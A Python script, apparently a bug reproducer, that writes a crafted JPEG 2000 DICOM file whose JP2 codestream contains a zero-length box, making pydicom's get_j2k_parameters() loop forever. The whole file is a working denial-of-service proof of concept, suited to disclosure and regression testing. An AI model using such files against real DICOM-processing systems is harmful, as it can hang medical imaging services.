"""Write zero_box_j2k.dcm: a JPEG 2000 DICOM whose JP2 codestream holds a box of length 0.

pydicom's get_j2k_parameters() (pydicom/pixels/utils.py) walks the JP2 boxes with ``offset += length``; a box
of length 0 never moves the offset, so ``while offset < total_length`` loops forever, holding the GIL.
"""
import sys

from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import JPEG2000Lossless, SecondaryCaptureImageStorage, generate_uid

out = sys.argv[1] if len(sys.argv) > 1 else "zero_box_j2k.dcm"
# JP2 signature box (length 12), then a box of length 0 that is not 'jp2c', then a little padding.
fragment = b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00\x00\x00\x00ftyp" + b"\x00" * 8
meta = FileMetaDataset()
meta.MediaStorageSOPClassUID = SecondaryCaptureImageStorage
meta.MediaStorageSOPInstanceUID = generate_uid()
meta.TransferSyntaxUID = JPEG2000Lossless
ds = Dataset()
ds.file_meta = meta
ds.SOPClassUID = meta.MediaStorageSOPClassUID
ds.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
ds.Modality = "US"
ds.Rows, ds.Columns = 8, 8
ds.SamplesPerPixel = 1
ds.PhotometricInterpretation = "MONOCHROME2"
ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 8, 8, 7, 0
ds.PixelData = encapsulate([fragment])
ds["PixelData"].VR = "OB"
ds.save_as(out, enforce_file_format=True)
